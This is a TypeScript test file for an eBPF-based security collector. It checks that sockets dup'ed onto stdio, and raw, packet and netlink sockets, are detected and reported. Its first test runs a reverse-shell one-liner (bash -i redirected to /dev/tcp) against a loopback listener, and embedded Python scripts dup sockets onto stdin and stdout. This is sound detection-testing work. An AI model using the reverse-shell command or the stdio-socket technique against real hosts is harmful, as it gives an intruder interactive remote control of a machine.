// Sockets as stdio and uncommon socket creation (bpf/README.md "Sockets as stdio"), each made for real from a
// kubelet-style pod cgroup against listeners this test starts on loopback:
// - `bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1` gives FD_DUP events (dup2 of the socket onto 1, then 2 and 0) and
//   an exec of `bash -i` whose fds 0, 1 and 2 are that TCP socket;
// - dup, dup2, dup3 and fcntl(F_DUPFD, F_DUPFD_CLOEXEC) of a socket onto stdio are reported, a file or a pipe dup'ed
//   onto stdio and a socket dup'ed above 2 are not; a unix socket as stdio names the listener's path;
// - socket(2) of AF_PACKET, SOCK_RAW (inet and inet6) and AF_NETLINK is reported with family, type, flags and
//   protocol; plain TCP, UDP and unix sockets are not.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, rmSync } from 'node:fs';
import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { pb, type palisade } from '@palisade/common';
import { skipUnless, waitFor } from '@palisade/common/testing';
import { KernelSource } from '@palisade/collector/dist/kernel-source.js';
import { canUseKernel, createPodCgroup, type PodCgroup } from '../support/pod-cgroup.js';

type RawEvent = palisade.v1.IRawEvent;

const kernel = canUseKernel();
const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : 'python3';
const skip = skipUnless(kernel.ok && existsSync('/bin/bash'), kernel.ok ? 'needs /bin/bash' : kernel.why);

let pod: PodCgroup | undefined;
let source: KernelSource | undefined;
const events: RawEvent[] = [];
const servers: Server[] = [];
const scratch = join(tmpdir(), `palisade-stdio-${randomBytes(4).toString('hex')}`);

/** A listener on loopback (or a unix path) that answers every connection with `reply` and then closes it. */
async function listen(reply: string, path?: string): Promise<Server> {
  const server = createServer((c: Socket) => {
    c.on('error', () => undefined);
    c.end(reply);
  });
  servers.push(server);
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    if (path !== undefined) server.listen(path, resolve);
    else server.listen(0, '127.0.0.1', resolve);
  });
  return server;
}

function port(server: Server): number {
  return (server.address() as AddressInfo).port;
}

before(() => {
  if (skip) return;
  mkdirSync(scratch, { recursive: true });
  pod = createPodCgroup();
  const ours = pod.cgroupId;
  source = new KernelSource({ cgroupWalkIntervalMs: 0 });
  source.start((batch) => events.push(...batch.filter((e) => e.process?.cgroupId === ours)));
});

after(async () => {
  source?.close();
  pod?.remove();
  await Promise.all(servers.map((s) => new Promise((resolve) => s.close(resolve))));
  rmSync(scratch, { recursive: true, force: true });
});

/**
 * The FD_DUP events of pid whose socket is `family`. The pod's own launcher is reported too, rightly: sh saves its
 * stdout (a socketpair end: Node's child stdio) with fcntl(1, F_DUPFD, 10) around `echo $$ > cgroup.procs` and puts
 * it back with dup2(10, 1) once it is in the pod's cgroup; that one is a unix socket.
 */
function dupsOf(pid: number, family: string): palisade.v1.IFdDup[] {
  return events.filter((e) => e.kind === pb.EventKind.EVENT_KIND_FD_DUP && e.process?.pid === pid &&
    e.fdDup?.family === family).map((e) => e.fdDup as palisade.v1.IFdDup);
}

/** The exec of `filename` whose argv has `marker` (the pod's sh carries the same argv before it execs). */
function execOf(filename: string, marker: string): RawEvent | undefined {
  return events.find((e) => e.kind === pb.EventKind.EVENT_KIND_PROCESS_EXEC && e.exec?.filename === filename &&
    (e.exec.argv ?? []).includes(marker));
}

function socketsOf(pid: number): palisade.v1.INetSocket[] {
  return events.filter((e) => e.kind === pb.EventKind.EVENT_KIND_NET_SOCKET && e.process?.pid === pid &&
    e.netSocket?.syscall === 'socket').map((e) => e.netSocket as palisade.v1.INetSocket);
}

/** Runs a Python script in the pod; it prints "pid <n> ..." first, so its events can be told from the others. */
async function python(script: string, ...args: string[]): Promise<{ pid: number; out: string[] }> {
  assert.ok(pod);
  const r = await pod.run([PYTHON, '-c', script, ...args]);
  assert.equal(r.code, 0, `python: ${r.stderr}`);
  const out = r.stdout.trim().split(/\s+/);
  assert.equal(out[0], 'pid', r.stdout);
  return { pid: Number(out[1]), out: out.slice(2) };
}

test('bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1: the dups onto 1, 2 and 0, then an exec whose stdio is the socket', { skip }, async () => {
  assert.ok(pod);
  const server = await listen('exit\n');
  const p = port(server);
  // --norc: the shell of a reverse shell, without this machine's rc files running commands of their own.
  const r = await pod.run(['/bin/bash', '-c', `bash --norc -i >& /dev/tcp/127.0.0.1/${p} 0>&1`]);
  assert.equal(r.code, 0, r.stderr);
  const exec = await waitFor('the exec of bash -i with socket stdio', () => execOf('/usr/bin/bash', '-i') ??
    execOf('/bin/bash', '-i'), { timeoutMs: 20_000 });
  const pid = exec.process?.pid ?? 0;
  const dups = await waitFor('three FD_DUP events', () => {
    const d = dupsOf(pid, 'inet');
    return d.length >= 3 ? d : undefined;
  }, { timeoutMs: 20_000 });
  // bash: dup2(3, 1) for ">& /dev/tcp/..", then dup2(1, 2) (the "&" half), then dup2(1, 0) for "0>&1".
  assert.deepEqual(dups.map((d) => [d.syscall, d.newFd, Number(d.result)]), [['dup2', 1, 1], ['dup2', 2, 2], ['dup2', 0, 0]]);
  for (const d of dups) {
    assert.equal(d.family, 'inet');
    assert.equal(d.type, 'stream');
    assert.equal(d.protocol, 6);
    assert.equal(d.peerAddr, '127.0.0.1');
    assert.equal(d.peerPort, p);
    assert.equal(d.connected, true);
  }
  const stdio = exec.exec?.stdioSockets ?? [];
  assert.deepEqual(stdio.map((s) => s.fd), [0, 1, 2]);
  for (const s of stdio) {
    assert.deepEqual({ family: s.family, type: s.type, peerAddr: s.peerAddr, peerPort: s.peerPort, connected: s.connected },
      { family: 'inet', type: 'stream', peerAddr: '127.0.0.1', peerPort: p, connected: true });
  }
});

test('an exec whose stdio is a file, a pipe and /dev/null has no stdio sockets', { skip }, async () => {
  assert.ok(pod);
  const marker = `palisade-pipes-${randomBytes(4).toString('hex')}`;
  const r = await pod.run(['/bin/bash', '-c', `/bin/echo ${marker} </etc/hostname 2>/dev/null | /bin/cat >/dev/null`]);
  assert.equal(r.code, 0);
  // echo: stdin a file, stdout the pipeline's pipe, stderr /dev/null (the pod's own stdio is socketpairs: Node's).
  const exec = await waitFor('the exec of echo', () => execOf('/bin/echo', marker) ?? execOf('/usr/bin/echo', marker),
    { timeoutMs: 20_000 });
  assert.deepEqual(exec.exec?.stdioSockets, []);
});

const DUPS = `
import ctypes, fcntl, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
f = os.open('/etc/hostname', os.O_RDONLY)
r, w = os.pipe()
print('pid', os.getpid(), s.fileno(), f, r, flush=True)
assert libc.dup2(f, 0) == 0                 # a file onto stdin: not reported
assert libc.dup2(r, 0) == 0                 # a pipe onto stdin: not reported
assert libc.dup(s.fileno()) > 2             # a socket, but not onto stdio: not reported
assert libc.dup2(s.fileno(), 0) == 0        # reported: dup2
assert libc.dup3(s.fileno(), 0, os.O_CLOEXEC) == 0   # reported: dup3
os.close(0)
assert libc.dup(s.fileno()) == 0            # reported: dup (the lowest free fd)
os.close(0)
assert fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0) == 0           # reported: fcntl F_DUPFD
os.close(0)
assert fcntl.fcntl(s.fileno(), fcntl.F_DUPFD_CLOEXEC, 0) == 0   # reported: fcntl F_DUPFD_CLOEXEC
assert fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 3) > 2            # above stdio: not reported
assert libc.dup2(f, 0) == 0                 # a file again: not reported
assert libc.dup2(s.fileno(), 1) == 1        # reported: the last one, after which nothing else may have been
`;

test('dup, dup2, dup3 and fcntl(F_DUPFD*) of a socket onto stdio are reported; files, pipes and fds above 2 are not', { skip }, async () => {
  const server = await listen('');
  const p = port(server);
  const { pid, out } = await python(DUPS, String(p));
  const sockFd = Number(out[0]);
  // Every call above ran before the last dup2, so once it is here, anything reported in between is here too.
  const dups = await waitFor('the last FD_DUP event (dup2 onto 1)', () => {
    const d = dupsOf(pid, 'inet');
    return d.some((x) => x.newFd === 1) ? d : undefined;
  }, { timeoutMs: 20_000 });
  assert.deepEqual(dups.map((d) => [d.syscall, d.oldFd, d.newFd, Number(d.result), d.flags]), [
    ['dup2', sockFd, 0, 0, 0],
    ['dup3', sockFd, 0, 0, 0o2000000],
    ['dup', sockFd, -1, 0, 0],
    ['fcntl', sockFd, 0, 0, 0],
    ['fcntl', sockFd, 0, 0, 1030],
    ['dup2', sockFd, 1, 1, 0],
  ]);
  for (const d of dups) {
    assert.equal(d.family, 'inet');
    assert.equal(d.peerAddr, '127.0.0.1');
    assert.equal(d.peerPort, p);
  }
});

const UNIX_STDIO = `
import os, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sys.argv[1])
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv('/bin/true', ['true', sys.argv[2]])
`;

test('a unix socket as stdio: the dups and the exec name the listener\'s path', { skip }, async () => {
  const path = join(scratch, 'stdio.sock');
  await listen('', path);
  const marker = `palisade-unix-${randomBytes(4).toString('hex')}`;
  assert.ok(pod);
  const r = await pod.run([PYTHON, '-c', UNIX_STDIO, path, marker]);
  assert.equal(r.code, 0, r.stderr);
  const exec = await waitFor('the exec of true with unix stdio', () => execOf('/bin/true', marker) ??
    execOf('/usr/bin/true', marker), { timeoutMs: 20_000 });
  assert.deepEqual(exec.exec?.stdioSockets?.map((s) => [s.fd, s.family, s.type, s.unixPath, s.connected]), [
    [0, 'unix', 'stream', path, true], [1, 'unix', 'stream', path, true], [2, 'unix', 'stream', path, true],
  ]);
  // os.dup2(fd, fd2) with the default inheritable=True is the dup2 syscall.
  const dups = await waitFor('three FD_DUP events', () => {
    const d = dupsOf(exec.process?.pid ?? 0, 'unix').filter((x) => x.unixPath === path);
    return d.length >= 3 ? d : undefined;
  }, { timeoutMs: 20_000 });
  assert.deepEqual(dups.map((d) => [d.newFd, d.family, d.unixPath]), [[0, 'unix', path], [1, 'unix', path], [2, 'unix', path]]);
});

const SOCKETS = `
import os, socket
print('pid', os.getpid(), flush=True)
def tryit(*a):
    try:
        socket.socket(*a).close()
    except OSError as e:
        print('error', a, e, flush=True)
socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()          # plain TCP: not reported
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close()          # plain UDP: not reported
socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()          # unix: not reported
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()        # ETH_P_ALL
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()                      # NETLINK_ROUTE
socket.socket(socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.IPPROTO_ICMPV6).close()
`;

test('socket(2): AF_PACKET, SOCK_RAW and AF_NETLINK are reported with family, type, flags and protocol; TCP, UDP and unix are not', { skip }, async () => {
  const { pid } = await python(SOCKETS);
  const sockets = await waitFor('four socket() events', () => {
    const s = socketsOf(pid);
    return s.length >= 4 ? s : undefined;
  }, { timeoutMs: 20_000 });
  // Python adds SOCK_CLOEXEC (0x80000) to every socket it makes.
  assert.deepEqual(sockets.map((s) => [s.socketFamily, s.socketType, s.socketTypeFlags, s.socketProtocol, s.protocol]), [
    ['packet', 'raw', 0x80000, 0x0300, ''],
    ['inet', 'raw', 0x80000, 1, 'icmp'],
    ['netlink', 'raw', 0x80000, 0, ''],
    ['inet6', 'raw', 0x80000 | 0x800, 58, 'icmpv6'],
  ]);
  for (const s of sockets) assert.ok(Number(s.result) >= 0, `socket() as root succeeds: ${JSON.stringify(s)}`);
  assert.equal(sockets[1]?.family, pb.AddressFamily.ADDRESS_FAMILY_INET);
  assert.equal(sockets[0]?.family, pb.AddressFamily.ADDRESS_FAMILY_UNSPECIFIED);
});
